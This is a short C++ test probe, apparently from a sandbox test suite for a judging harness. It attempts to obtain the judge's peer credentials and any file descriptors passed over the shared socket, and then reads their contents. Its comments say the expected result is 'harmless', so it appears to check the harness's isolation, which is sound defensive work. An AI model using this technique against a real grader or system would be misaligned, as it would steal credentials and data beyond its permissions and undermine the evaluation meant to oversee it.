// task: optimization-online-bandit
// route: descriptors of other processes
// tries: to receive descriptors and credentials from the judge through the conversation itself
// expect: harmless

#include <sys/socket.h>

#include "shared/bandit.hpp"
#include "shared/probe.hpp"

void attack::begin(const mls::Info& info, mls::Rng&) {
  survive();
  int on = 1;
  call(SYS_setsockopt, 3, SOL_SOCKET, SO_PASSCRED, address(&on), sizeof on);
  ucred peer{};
  socklen_t length = sizeof peer;
  call(SYS_getsockopt, 3, SOL_SOCKET, SO_PEERCRED, address(&peer), address(&length));
  char control[256]{};
  char block[4096];
  iovec part{block, sizeof block};
  msghdr header{};
  header.msg_iov = &part;
  header.msg_iovlen = 1;
  header.msg_control = control;
  header.msg_controllen = sizeof control;
  if (call(SYS_recvmsg, 3, address(&header), MSG_PEEK | MSG_DONTWAIT) < 0) return;
  for (cmsghdr* c = CMSG_FIRSTHDR(&header); c != nullptr; c = CMSG_NXTHDR(&header, c)) {
    if (c->cmsg_type != SCM_RIGHTS) continue;
    int fd = -1;
    std::memcpy(&fd, CMSG_DATA(c), sizeof fd);
    if (call(SYS_pread64, fd, address(block), sizeof block, 0) > 0) examine({block, sizeof block}, info);
  }
}
